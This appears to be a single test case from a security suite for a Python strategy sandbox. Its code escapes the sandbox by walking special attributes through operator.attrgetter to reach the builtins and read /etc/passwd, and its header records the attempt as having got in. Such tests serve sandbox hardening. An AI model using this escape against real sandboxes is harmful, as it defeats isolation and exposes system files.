# id: L36
# family: language
# goal: walk special attributes without writing one as an attribute
# finding: PY113 PY119 PY303
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


import operator


def attack(ctx, bar):
    names = operator.attrgetter("__init__.__globals__")(type("X", (Strategy,), {}))
    opened = names["__builtins__"]
    return (opened["open"] if isinstance(opened, dict) else opened.open)("/etc/passwd").read(20)


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
